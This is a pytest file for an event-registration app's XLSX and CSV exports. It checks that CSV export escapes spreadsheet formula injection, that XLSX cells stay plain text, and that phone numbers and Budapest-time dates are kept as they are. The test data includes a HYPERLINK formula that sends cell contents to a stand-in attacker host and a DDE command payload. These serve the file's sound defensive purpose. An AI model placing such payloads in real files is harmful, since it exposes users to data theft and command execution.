"""Spreadsheets read as typed: text never runs, phone numbers carry no mark, dates are dates."""

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from app.core.spreadsheets import runs_as_formula
from tests.registration.conftest import form_data

BASE = "/manage/events/gyori-mesterkurzus"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PHONE = "+36 1 234 5678"


def registered_at(app):
    from app.extensions import db
    from app.registration.models import Registration

    with app.app_context():
        moment = db.session.execute(db.select(Registration.created_at)).scalar_one()
        db.session.remove()
    return moment


def register_one(client, make_event, login):
    make_event()
    response = client.post("/events/gyori-mesterkurzus/register",
                           data=form_data(phone=PHONE, last_name=EVIL, organisation="-Pannon- (Győr)"))
    assert response.status_code == 302
    login()


def test_xlsx_has_text_cells_without_apostrophes_and_a_real_registered_datetime(app, client, make_event, login):
    register_one(client, make_event, login)
    response = client.get(f"{BASE}/registrations.xlsx")
    assert response.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.data)).active
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}

    assert row["Phone"].value == PHONE and row["Phone"].data_type == "s"
    assert row["Last name"].value == EVIL and row["Last name"].data_type == "s"  # text, never a formula
    assert row["Organisation"].value == "-Pannon- (Győr)"
    registered = row["Registered"].value
    assert isinstance(registered, datetime) and row["Registered"].is_date
    expected = registered_at(app).astimezone(ZoneInfo("Europe/Budapest")).replace(tzinfo=None, microsecond=0)
    assert registered.replace(microsecond=0) == expected  # the venue's wall clock, as the organiser reads it
    assert "yy" in row["Registered"].number_format and "mm" in row["Registered"].number_format


def test_csv_escapes_only_what_would_run_and_writes_iso_dates(app, client, make_event, login):
    register_one(client, make_event, login)
    response = client.get(f"{BASE}/registrations.csv")
    assert response.headers.getlist("Content-Type") == ["text/csv; charset=utf-8"]
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Phone"] == PHONE  # a phone number is not a formula: no apostrophe
    assert row["Last name"] == "'" + EVIL
    assert row["Organisation"] == "'-Pannon- (Győr)"  # letters after "-": a spreadsheet would try to run it
    registered = datetime.fromisoformat(row["Registered"])
    assert registered.utcoffset() == registered_at(app).astimezone(ZoneInfo("Europe/Budapest")).utcoffset()
    assert registered == registered_at(app).replace(microsecond=0)


def test_every_csv_download_has_one_content_type(client, make_event, login):
    register_one(client, make_event, login)
    for name in ("registrations.csv", "attendance.csv", "audit.csv"):
        response = client.get(f"{BASE}/{name}")
        assert response.status_code == 200, name
        assert response.headers.getlist("Content-Type") == ["text/csv; charset=utf-8"], name


def test_what_runs_as_a_formula():
    for text in ("=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "+A1", " =1", "\t=1", "\r@x", "-Pannon"):
        assert runs_as_formula(text), text
    for text in (PHONE, "+47 22 00 00 00", "+1 (555) 010-0199", "-5", "-1.5", "06-30-123-4567", "Győr", "", "a=b"):
        assert not runs_as_formula(text), text
